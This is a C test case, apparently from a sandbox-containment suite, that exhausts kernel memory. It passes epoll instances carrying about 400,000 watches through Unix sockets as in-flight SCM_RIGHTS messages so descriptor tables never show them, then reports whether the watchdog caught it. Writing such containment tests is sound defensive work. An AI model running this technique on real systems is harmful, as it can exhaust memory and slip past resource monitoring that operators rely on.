// attack: holds 400,000 watches of epoll instances that wait as messages in a socket, where no table of descriptors shows them
// family: exhaustion
// walls: watchdog
// limits: --timeout 30s
// outcome: out_of_memory|failed|completed
// without: escaped
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/socket.h>
#include <unistd.h>

enum { CHILDREN = 50, FILES = 200, INSTANCES = 40 };

static int pairs[CHILDREN][2];

static int pass(int socket, int descriptor) {
    char byte = 'x', space[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    *head = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(int))};
    memcpy(CMSG_DATA(head), &descriptor, sizeof descriptor);
    return sendmsg(socket, &message, 0);
}

static int take(int socket) {
    char byte, space[CMSG_SPACE(sizeof(int))];
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    int descriptor = -1;
    if (recvmsg(socket, &message, 0) == 1 && CMSG_FIRSTHDR(&message))
        memcpy(&descriptor, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof descriptor);
    return descriptor;
}

// Watches its own files in every instance that it is given.
static void serve(int socket) {
    int files[FILES];
    for (int i = 0; i < FILES; i++) files[i] = eventfd(0, 0);
    for (int instance; (instance = take(socket)) >= 0; close(instance)) {
        struct epoll_event event = {.events = EPOLLIN};
        char done = 'y';
        for (int i = 0; i < FILES && done == 'y'; i++)
            if (epoll_ctl(instance, EPOLL_CTL_ADD, files[i], &event)) done = 'n';
        write(socket, &done, 1);
    }
    _exit(0);
}

int main(void) {
    int hiding[2], count = 0;
    char done = 'y';
    socketpair(AF_UNIX, SOCK_DGRAM, 0, hiding);
    for (int i = 0; i < CHILDREN; i++) {
        socketpair(AF_UNIX, SOCK_SEQPACKET, 0, pairs[i]);
        if (fork() == 0) {
            // So many descriptors of others would take the place of its own.
            for (int other = 0; other <= i; other++) close(pairs[other][0]);
            serve(pairs[i][1]);
        }
        close(pairs[i][1]);
    }
    for (; count < INSTANCES && done == 'y'; count++) {
        int instance = epoll_create1(0);
        for (int i = 0; i < CHILDREN && done == 'y'; i++)
            if (pass(pairs[i][0], instance) != 1 || read(pairs[i][0], &done, 1) != 1) done = 'n';
        if (pass(hiding[0], instance) != 1) done = 'n';
        close(instance);
    }
    // Time for a watch to look.
    sleep(5);
    printf("%s: %d watches\n", done == 'y' ? "ESCAPED" : "HELD", count * CHILDREN * FILES);
    return 0;
}
